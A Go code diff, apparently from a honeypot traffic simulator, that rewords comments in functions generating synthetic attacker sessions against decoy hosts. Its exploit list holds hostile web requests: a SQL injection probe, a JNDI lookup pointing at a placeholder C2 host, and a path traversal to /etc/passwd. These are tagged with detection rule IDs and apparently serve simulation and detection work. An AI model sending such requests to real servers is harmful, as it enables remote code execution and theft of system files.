@@ -5,8 +5,8 @@ import (
 	"time"
 )
 
-// visit plays an attacker's part of the operation: up to n sessions, act after act and on ever more deckies, until
-// the data ends.
+// visit makes an attacker's sessions: up to n, one act after the other and on more and more deckies, until the end of the
+// data.
 func (b *block) visit(a *attacker, n int) {
 	th := a.kit.theme
 	at, here := a.first, ""
@@ -33,7 +33,7 @@ func (b *block) visit(a *attacker, n int) {
 	a.last = a.sessions[len(a.sessions)-1].end
 }
 
-// pause is the time to the next session: minutes at first, then days.
+// pause returns the time to the next session: minutes at first, then days.
 func (b *block) pause(i int) time.Duration {
 	if i < 2 && b.chance(0.6) {
 		return b.wait(3*time.Minute, 2*time.Hour)
@@ -41,7 +41,7 @@ func (b *block) pause(i int) time.Duration {
 	return b.wait(2*time.Hour, 60*time.Hour)
 }
 
-// place is the decky for an act: the current one unless the act moves on or the service is not there.
+// place returns the decky for an act: the current one, unless the act moves on or the decky lacks the service.
 func (b *block) place(c act, here string) string {
 	choice := offering[c.service]
 	if !c.hop && slices.Contains(choice, here) {
@@ -61,7 +61,7 @@ func (b *block) open(a *attacker, service, decky string, at time.Time) *session 
 	return s
 }
 
-// play types the lines of an act.
+// play adds the lines of an act to a session.
 func (b *block) play(a *attacker, c act, decky string, at time.Time) *session {
 	s := b.open(a, c.service, decky, at)
 	if s.login = b.chance(a.kit.theme.logins); s.login {
@@ -75,7 +75,7 @@ func (b *block) play(a *attacker, c act, decky string, at time.Time) *session {
 	for _, name := range c.parts {
 		for _, st := range a.kit.part(b.dice, name) {
 			if b.chance(0.08) {
-				continue // nobody does everything every time
+				continue // a person skips some steps
 			}
 			s.end = s.end.Add(b.wait(fast, slow))
 			s.lines = append(s.lines, line{text: st.text, at: s.end, rules: st.rules})
@@ -97,7 +97,7 @@ type request struct {
 	at               time.Time
 }
 
-// exploits are the requests of a probe; the %s of the second is the kit's C2 server.
+// exploits lists the requests of a probe; the kit replaces the word in braces.
 var exploits = []request{
 	{rule: "R0007", url: "/product.php?id=7%20AND%201=1", agent: "sqlmap/1.8.4#stable (https://sqlmap.org)"},
 	{rule: "R0008", url: "/?q=${jndi:ldap://{c2host}:1389/a}"},
@@ -105,7 +105,7 @@ var exploits = []request{
 	{rule: "R0009", url: "/static/../../../../etc/passwd"},
 }
 
-// probe sends exploit requests to a web decky.
+// probe makes exploit requests to a web decky.
 func (b *block) probe(a *attacker, at time.Time) *session {
 	service := pick(b.dice, []string{"http", "http", "https"})
 	s := b.open(a, service, pick(b.dice, offering[service]), at)
@@ -121,7 +121,7 @@ func (b *block) probe(a *attacker, at time.Time) *session {
 	return s
 }
 
-// relay sends mail through a mail decky.
+// relay makes mails through a mail decky.
 func (b *block) relay(a *attacker, at time.Time) *session {
 	s := b.open(a, "smtp", pick(b.dice, offering["smtp"]), at)
 	for range b.between(1, 4) {
